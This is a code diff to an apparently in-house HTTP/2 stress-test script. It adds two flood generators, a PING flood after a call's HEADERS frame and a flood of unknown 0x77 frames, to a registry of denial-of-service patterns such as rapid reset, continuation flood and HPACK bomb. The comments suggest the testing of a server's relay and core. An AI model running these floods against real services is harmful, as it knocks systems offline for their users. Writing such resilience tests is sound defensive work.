@@ -68,6 +68,7 @@ def hpack_bomb():
 
 
 def settings_flood():
+    """Before a request: the relay answers by itself."""
     yield begin()
     while True:
         yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200
@@ -77,6 +78,20 @@ def ping_flood():
     yield begin()
     while True:
         yield frame(PING, 0, 0, b"12345678") * 200
+
+
+def ping_flood_of_a_call():
+    """The core answers."""
+    yield begin() + frame(HEADERS, END_HEADERS, 1, call_headers())
+    while True:
+        yield frame(PING, 0, 0, b"12345678") * 200
+
+
+def unknown_frame_flood():
+    """Frames that mean nothing, before a request."""
+    yield begin()
+    while True:
+        yield frame(0x77, 0, 0, bytes(500)) * 200
 
 
 def empty_data_flood():
@@ -123,7 +138,8 @@ def empty_messages():
 ATTACKS = {
     each.__name__.replace("_", "-"): each
     for each in (rapid_reset, continuation_flood, hpack_bomb, settings_flood, ping_flood,
-                 empty_data_flood, window_flood, open_streams, small_data_flood, empty_messages)
+                 ping_flood_of_a_call, unknown_frame_flood, empty_data_flood, window_flood,
+                 open_streams, small_data_flood, empty_messages)
 }
 
 # ---------------------------------------------------------------------------- running them
